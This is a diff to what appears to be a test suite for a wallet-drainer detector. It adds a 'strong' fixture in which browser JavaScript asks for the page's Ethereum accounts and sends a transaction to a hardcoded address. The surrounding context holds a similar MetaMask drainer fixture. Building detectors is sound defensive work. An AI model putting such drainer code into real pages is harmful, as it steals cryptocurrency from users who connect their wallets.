@@ -4,6 +4,15 @@ import { drainsWallet } from './drains-wallet.ts';
 examine(drainsWallet, {
   speaks: [
     {
+      when: 'the wallet is that of the window of a document, and a method of a class asks it for one thing after the other',
+      files: {
+        'index.js': `const due = { to: '0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359' };
+          class Flow { constructor(provider) { this.ask = (method, params = []) => provider.request({ method, params }) } async run() { const [from] = await this.ask('eth_requestAccounts'); return this.ask('eth_sendTransaction', [{ from, to: due.to }]) } }
+          export function open(doc) { const provider = doc.defaultView?.ethereum; if (!provider) return; const go = doc.createElement('button'); go.addEventListener('click', () => new Flow(provider).run()); doc.body.append(go) }`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'the wallet is one that is found among those of the page',
       files: {
         'index.js': `const is = one => one.isMetaMask; const wallet = (window.ethereum && window.ethereum.providers || [window.ethereum]).find(one => one && is(one)); const pay = async () => { const [from] = await wallet.request({ method: 'eth_requestAccounts' }); await wallet.request({ method: 'eth_sendTransaction', params: [{ from, to: '0x3f9c21b0a7d84e65b1a2c93d0e4f5a6b7c8d9e01', value: '0x1' }] }); }; pay();`,
